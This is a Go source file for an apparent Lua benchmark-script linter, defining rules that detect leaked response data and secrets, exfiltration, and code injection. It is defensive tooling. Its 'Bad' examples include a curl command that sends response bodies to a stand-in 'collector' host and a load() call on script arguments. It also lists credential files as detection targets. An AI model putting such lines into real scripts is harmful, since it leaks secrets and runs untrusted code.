package rules

import (
	"strconv"
	"strings"

	"github.com/yuin/gopher-lua/ast"

	"github.com/wrklint/wrklint/analyzer"
)

// The data-flow rules share one description of sinks: where sensitive
// data must not arrive.

var (
	responseKinds = []analyzer.TaintKind{analyzer.TaintResponseBody, analyzer.TaintResponseHeader}
	secretKinds   = []analyzer.TaintKind{analyzer.TaintEnv, analyzer.TaintSecret, analyzer.TaintCredFile}
	exfilKinds    = []analyzer.TaintKind{analyzer.TaintResponseBody, analyzer.TaintResponseHeader, analyzer.TaintEnv, analyzer.TaintCredFile, analyzer.TaintFile}
	dnsKinds      = []analyzer.TaintKind{analyzer.TaintResponseBody, analyzer.TaintResponseHeader, analyzer.TaintEnv, analyzer.TaintSecret, analyzer.TaintCredFile}
	codeKinds     = []analyzer.TaintKind{analyzer.TaintArgs, analyzer.TaintEnv, analyzer.TaintResponseBody, analyzer.TaintResponseHeader, analyzer.TaintCredFile, analyzer.TaintFile}
)

// ResponseDataOutput is WL501.
var ResponseDataOutput = &analyzer.Rule{
	ID:        "WL501",
	Name:      "ResponseDataOutput",
	Level:     analyzer.LevelError,
	CWE:       532,
	Title:     "Do not print or write response data",
	Precision: "high",
	Bad:       "function response(status, headers, body)\n  if status ~= 200 then print(body) end\nend\n",
	Good:      "function response(status, headers, body)\n  if status ~= 200 then print(status, #body) end\nend\n",
	Description: "Data from a response — its body, a sensitive header (cookies, authorization, tokens, session ids), " +
		"a header chosen at run time or reached by iterating the headers — reaches print, io.write, a standard stream, " +
		"a file, an error or assert message or the exit status (os.exit). Benchmark output ends up in CI logs and artifacts; response data in it leaks what the service returned.",
	Help: "wrklint follows the data through variables, table fields, globals shared between hooks, function parameters " +
		"and return values, string operations and pcall. Lengths (`#body`), status codes, `tonumber(...)` and " +
		"tests of whole values or fixed pieces against constants (`body:find(\"error\")`, `body:sub(1, 1) == \"{\"`, " +
		"`for line in body:gmatch(\"[^\\n]+\")` lines tested with `find`) are not sensitive.\n\n" +
		implicitHelp +
		"Print what you measure, not what you received: `print(#body)`, `print(status)`, or count error bodies by a " +
		"non-sensitive property. A write to a pipe opened with `io.popen` sends the data to a command and is " +
		"reported as WL503, not here.",
	Run: func(pass *analyzer.Pass) error {
		reportFlows(pass, responseKinds, outputSink, false)
		return nil
	},
}

// SecretOutput is WL502.
var SecretOutput = &analyzer.Rule{
	ID:        "WL502",
	Name:      "SecretOutput",
	Level:     analyzer.LevelError,
	CWE:       532,
	Title:     "Do not print or write secrets",
	Precision: "high",
	Bad:       "local token = os.getenv(\"BENCH_TOKEN\")\nprint(\"using token \" .. token)\n",
	Good:      "local token = os.getenv(\"BENCH_TOKEN\")\nwrk.headers[\"Authorization\"] = \"Bearer \" .. token\n",
	Description: "A hard-coded secret, the value of an environment variable whose name marks it as a secret, or what a " +
		"credentials file holds (`~/.aws/credentials`, `~/.netrc`, `~/.git-credentials`, `~/.pgpass`, `~/.docker/config.json`, " +
		"`~/.kube/config`, an SSH private key, a `.env` file, `/run/secrets/...`, or a process's `/proc/.../environ`, which " +
		"is every environment variable at once; also a file under the home directory whose name the analysis cannot tell, " +
		"`os.getenv(\"HOME\") .. \"/\" .. name`, as it may be any of them) reaches print, io.write, a standard stream, a file, an error or assert message or the exit status (os.exit). Environment variables on load generators and CI runners hold credentials; " +
		"printed, they end up in logs.",
	Help: "An environment variable is a secret when its name matches the `secrets.env` patterns of `.wrklint.yml` and no " +
		"`secrets.not-env` pattern. By default that is a name containing TOKEN, SECRET, PASSWORD, PASSWD, PASS, PWD, KEY, AUTH, " +
		"COOKIE, SESSION, CREDENTIAL, CRED, PRIVATE, JWT, BEARER, CERT, SIGNATURE or SALT, unless it also says FILE, PATH, DIR, " +
		"URL, HOST, PORT or NAME (a name chosen at run time counts as a secret). Labels such as `FRAMEWORK` or `TITLE` printed " +
		"in a report are not reported here.\n\n" +
		implicitHelp +
		"A hard-coded secret or an environment value compared as a whole with, or searched for, a candidate that varies " +
		"(each word of a list, a counter, `token:find(ch, 1, true)`) is tested the same way, and `tonumber` of a hard-coded secret keeps it. Checks against " +
		"constants (`token:sub(1, 7) == \"Bearer \"`, `#token < 20`) and validation that ends the run with a fixed " +
		"`error(...)` message are not reported.\n\n" +
		"Use the value where it belongs (a request header sent to the target) and print nothing of it. " +
		"If you must show which credential is in use, print a fixed label, not the value.",
	Run: func(pass *analyzer.Pass) error {
		reportFlowsOf(pass, secretKinds, outputSink, false, func(src analyzer.Source) bool { return secretSource(pass, src) })
		return nil
	},
}

// implicitHelp describes implicit flows for the rules that report them
// (analyzer/implicit.go, docs/architecture.md "Implicit flows").
const implicitHelp = "Data rebuilt without being copied counts as the data. A test of a piece chosen at run time — a " +
	"byte or character at a computed index (`s:byte(i) == c`, `s:sub(i, i) > \"m\"`), a search from a computed " +
	"position or with an anchored pattern built at run time, a search for or a comparison with candidates the script " +
	"generates from a loop counter or from the characters of an alphabet it holds (`body:find(string.char(c), 1, true)` for every `c`, " +
	"`token:find(known .. ch, 1, true)` for each `ch` of `alphabet:gmatch(\".\")`; not the words of a list it holds, nor a few characters such as `\"<>&\"`), each character from `gmatch(\".\")` or " +
	"`gsub(\".\", f)` — makes what its branches print, assign, return, raise to a `pcall` or pass to a function " +
	"carry the data (the message names the test), and so does a `for` loop bounded by data; a piece used as a " +
	"table key or `select` index, a size that `#`, `string.len` or a count of `gsub` matches then measures " +
	"(`#string.rep(\"x\", s:byte(i))`, the commas of `(\".\"):rep(s:byte(i), \",\")`), " +
	"a piece passed through `tonumber`, a number `math.random` draws after `math.randomseed` was given a piece, how many " +
	"values `unpack(t, 1, n)` hands out for a piece `n`, and `coroutine.status` after a yield in a tested branch carry it as well.\n\n"

// secretSource reports whether a source is a secret for WL502: a
// hard-coded secret, or an environment variable whose name marks it as one
// by the project's secrets patterns (or whose name is not constant).
// Labels such as NAME or FRAMEWORK printed in a report are not secrets.
func secretSource(pass *analyzer.Pass, src analyzer.Source) bool {
	if src.Kind != analyzer.TaintEnv {
		return true
	}
	name, err := strconv.Unquote(src.Detail)
	if err != nil {
		return true // a name chosen at run time may be any variable
	}
	return pass.Secrets.IsSecretEnv(name)
}

// Exfiltration is WL503.
var Exfiltration = &analyzer.Rule{
	ID:        "WL503",
	Name:      "Exfiltration",
	Level:     analyzer.LevelError,
	CWE:       200,
	Title:     "Do not send response, environment or file data elsewhere",
	Precision: "high",
	Bad:       "function response(status, headers, body)\n  os.execute(\"curl -d '\" .. body .. \"' http://collector\")\nend\n",
	Good:      "local errors = 0\nfunction response(status)\n  if status >= 500 then errors = errors + 1 end\nend\n",
	Description: "Response, environment or file data reaches a command (os.execute, io.popen, or a write to a pipe), " +
		"a network module (sockets, HTTP clients), a DNS query (a secret or response data in a name given to wrk.lookup), or — in a script that redirects its target (WL701) — a request " +
		"built with wrk.format, wrk.headers, wrk.body or request(). That sends it somewhere other than the benchmark target.",
	Help: "Sending data back to the benchmark target through `wrk.format`, `wrk.headers`, `wrk.body` or `request()` is " +
		"what wrk scripts do (auth tokens, CSRF round trips) and is not reported, unless the script points its " +
		"threads or connections at another host. Data rebuilt piece by piece through tests (see WL501) counts as " +
		"the data.\n\nRemove the command or network call.",
	Run: func(pass *analyzer.Pass) error {
		reportFlows(pass, exfilKinds, exfilSink, true)
		reportFlowsOf(pass, dnsKinds, dnsSink, true, func(src analyzer.Source) bool { return secretSource(pass, src) })
		if targetRedirected(pass) {
			reportRedirectedRequests(pass)
		}
		return nil
	},
}

// CodeInjection is WL504.
var CodeInjection = &analyzer.Rule{
	ID:               "WL504",
	Name:             "CodeInjection",
	Level:            analyzer.LevelError,
	CWE:              94,
	Title:            "Do not run code or commands built from external data",
	Precision:        "high",
	SecuritySeverity: "9.5",
	Bad:              "function init(args)\n  load(args[1])()\nend\n",
	Good:             "local depth = 1\nfunction init(args)\n  depth = tonumber(args[1]) or 1\nend\n",
	Description: "Script arguments, environment, response or file data reaches load, loadstring, loadfile, dofile, " +
		"require, os.execute or io.popen. Whoever controls that data — the server under test, a CI variable, " +
		"a data file — runs code on the load generator.",
	Help: "Never execute data. Parse it instead (`tonumber`, `cjson.decode`, patterns) and act on the parsed values.",
	Run: func(pass *analyzer.Pass) error {
		reportFlows(pass, codeKinds, codeSink, false)
		return nil
	},
}

// sinkFunc says whether a call to the library member path is a sink of
// the rule, describes it, and says which arguments reach it.
// A sinkFunc accepts only paths maySink accepts (sinkCalls relies on it).
type sinkFunc func(path string) (desc string, args func(c *analyzer.CallSite) []*analyzer.ValueSet)

// allArgs skips the receiver of a method call and handles passed as the
// explicit first argument of a write.
func allArgs(c *analyzer.CallSite) []*analyzer.ValueSet {
	if c.Method && len(c.ArgVals) > 0 {
		return c.ArgVals[1:]
	}
	return c.ArgVals
}

func firstArg(c *analyzer.CallSite) []*analyzer.ValueSet {
	i := 0
	if c.Method {
		i = 1
	}
	if a := c.Arg(i); a != nil {
		return []*analyzer.ValueSet{a}
	}
	return nil
}

// assertMessage is the message written as assert's second argument: the
// extra results of assert(f()) are f's error, not text the script chose
// to show (assert(cjson.decode(body)) prints the decoder's message).
func assertMessage(c *analyzer.CallSite) []*analyzer.ValueSet {
	if len(c.Args) < 2 || c.Method {
		return nil
	}
	if a := c.Arg(1); a != nil {
		return []*analyzer.ValueSet{a}
	}
	return nil
}

// handleWrite reports whether path is the write method of a file handle,
// a standard stream or a pipe, and returns the handle kind.
func handleWrite(path string) (string, bool) {
	handle, method, ok := strings.Cut(path, ":")
	if !ok || method != "write" {
		return "", false
	}
	switch handle {
	case "io.stdout", "io.stderr", "io.file", "io.pfile":
		return handle, true
	}
	return "", false
}

// The sinks come from the library table (analyzer.Library): what a call's
// arguments leave the script as.

func outputSink(path string) (string, func(*analyzer.CallSite) []*analyzer.ValueSet) {
	if analyzer.Library(path).Sink != analyzer.SinkOutput {
		return "", nil
	}
	switch path {
	case "error":
		return "error", firstArg
	case "os.exit":
		return "the exit status (os.exit)", firstArg
	case "assert":
		return "assert's message", assertMessage
	}
	if h, ok := handleWrite(path); ok {
		switch h {
		case "io.stdout", "io.stderr":
			return h + ":write", allArgs
		default:
			return "a file write", allArgs
		}
	}
	return path, allArgs
}

func exfilSink(path string) (string, func(*analyzer.CallSite) []*analyzer.ValueSet) {
	if analyzer.Library(path).Sink == analyzer.SinkCommand {
		if _, ok := handleWrite(path); ok {
			return "a write to a command started with io.popen", allArgs
		}
		return path, firstArg
	}
	if name, ok := strings.CutPrefix(path, "module:"); ok {
		mod := name
		if i := strings.IndexAny(mod, ".("); i >= 0 {
			mod = mod[:i]
		}
		if networkModule(mod) {
			return "the network call " + strings.ReplaceAll(name, "().", "():"), allArgs
		}
	}
	return "", nil
}

// dnsSink is a name resolved by the script. A host name read from a file,
// the arguments or a non-secret environment variable chooses a target
// (WL701's concern); response data or a secret inside a name is sent to
// whoever serves its domain: dnsKinds.
func dnsSink(path string) (string, func(*analyzer.CallSite) []*analyzer.ValueSet) {
	if analyzer.Library(path).Sink == analyzer.SinkNetwork {
		return "a DNS query (" + path + ")", firstArg
	}
	return "", nil
}

func codeSink(path string) (string, func(*analyzer.CallSite) []*analyzer.ValueSet) {
	switch analyzer.Library(path).Sink {
	case analyzer.SinkCode:
		return path, firstArg
	case analyzer.SinkCommand:
		if _, ok := handleWrite(path); !ok {
			return path, firstArg
		}
	}
	return "", nil
}

// firstSource returns the first source of one of the kinds.
func firstSource(srcs []analyzer.Source, kinds []analyzer.TaintKind) (analyzer.Source, bool) {
	return firstSourceOf(srcs, kinds, nil)
}

// firstSourceOf returns the first source of one of the kinds that keep
// accepts (every source when keep is nil).
func firstSourceOf(srcs []analyzer.Source, kinds []analyzer.TaintKind, keep func(analyzer.Source) bool) (analyzer.Source, bool) {
	for _, k := range kinds {
		for _, s := range srcs {
			if s.Kind == k && (keep == nil || keep(s)) {
				return s, true
			}
		}
	}
	return analyzer.Source{}, false
}

// reportFlows reports every call to a sink that one of the kinds of data
// reaches: one finding per call.
func reportFlows(pass *analyzer.Pass, kinds []analyzer.TaintKind, sink sinkFunc, deep bool) {
	reportFlowsOf(pass, kinds, sink, deep, nil)
}

// reportFlowsOf is reportFlows for the sources keep accepts.
func reportFlowsOf(pass *analyzer.Pass, kinds []analyzer.TaintKind, sink sinkFunc, deep bool, keep func(analyzer.Source) bool) {
	for _, c := range sinkCalls(pass) {
		var desc string
		var args func(*analyzer.CallSite) []*analyzer.ValueSet
		site := c
		for _, v := range c.Callee.Values() {
			if p := v.Path(); p != "" {
				if desc, args = sink(p); desc != "" {
					site = receiverAsArg(c, p)
					break
				}
			}
		}
		if desc == "" {
			continue
		}
		for _, a := range args(site) {
			srcs := a.Taint()
			if deep {
				srcs = pass.DeepTaint(a)
			}
			if src, ok := firstSourceOf(srcs, kinds, keep); ok {
				pass.Reportf(c.Expr, "%s reaches %s", src, desc)
				break
			}
		}
	}
}

// sinkCallsKey is the Pass.Memo key of sinkCalls.
type sinkCallsKey struct{}

// sinkCalls returns the calls, in the order of Pass.Calls, whose callee
// may be a library member with a sink or a module's member: the only
// paths the sink functions of reportFlows accept. Four rules look for
// flows into sinks (five times a file), most calls (string.format,
// math.random) reach none, and the library table is looked up here once
// per callee rather than once per look.
func sinkCalls(pass *analyzer.Pass) []*analyzer.CallSite {
	out, _ := pass.Memo(sinkCallsKey{}, func() any {
		var out []*analyzer.CallSite
		for _, c := range pass.Calls() {
			for _, v := range c.Callee.Values() {
				if p := v.Path(); p != "" && maySink(p) {
					out = append(out, c)
					break
				}
			}
		}
		return out
	}).([]*analyzer.CallSite)
	return out
}

// maySink reports whether a sinkFunc may accept path: every one of them
// needs a library sink or a module's member.
func maySink(path string) bool {
	return analyzer.Library(path).Sink != analyzer.SinkNone || strings.HasPrefix(path, "module:")
}

// receiverAsArg is c seen as a plain call when a method call reaches a
// library function that is no method (cmd:execute() through a metatable
// on the string library is os.execute(cmd)): the receiver is its first
// argument. Handle and module methods keep their receiver apart.
func receiverAsArg(c *analyzer.CallSite, path string) *analyzer.CallSite {
	if !c.Method || strings.Contains(path, ":") {
		return c
	}
	plain := *c
	plain.Method = false
	return &plain
}

// reportRedirectedRequests reports data sent through wrk's request API in
// a script whose requests go to a redirected target.
func reportRedirectedRequests(pass *analyzer.Pass) {
	const desc = "a request sent to a redirected target"
	formatted := map[ast.Expr]bool{}
	for _, c := range callsTo(pass, "wrk.format") {
		for _, a := range c.ArgVals {
			if src, ok := firstSource(pass.DeepTaint(a), exfilKinds); ok {
				pass.Reportf(c.Expr, "%s reaches %s (wrk.format)", src, desc)
				formatted[c.Expr] = true
				break
			}
		}
	}
	for _, st := range pass.Stores() {
		if st.Target == nil || !requestField(st) {
			continue
		}
		if src, ok := firstSource(pass.DeepTaint(st.Value), exfilKinds); ok {
			pass.Reportf(st.Target, "%s reaches %s (%s)", src, desc, pass.Text(st.Target))
		}
	}
	hooks := map[*analyzer.Func]bool{}
	for _, fn := range pass.Hook("request") {
		hooks[fn] = true
	}
	for _, r := range pass.Returns() {
		if r.Func == nil || !hooks[r.Func] {
			continue
		}
		if len(r.Stmt.Exprs) == 0 || formatted[r.Stmt.Exprs[0]] {
			continue // already reported at wrk.format
		}
		for _, v := range r.Values {
			if src, ok := firstSource(pass.DeepTaint(v), exfilKinds); ok {
				pass.Reportf(r.Stmt.Exprs[0], "%s reaches %s (returned by request)", src, desc)
				break
			}
		}
	}
}

// requestField reports whether a store sets wrk.headers[...], wrk.body,
// wrk.path, wrk.method or wrk.headers itself.
func requestField(st analyzer.Store) bool {
	if st.Object.HasLib("wrk.headers") {
		return true
	}
	if !st.Object.HasLib("wrk") {
		return false
	}
	k, ok := st.Key.ConstString()
	return ok && (k == "body" || k == "headers" || k == "path" || k == "method")
}
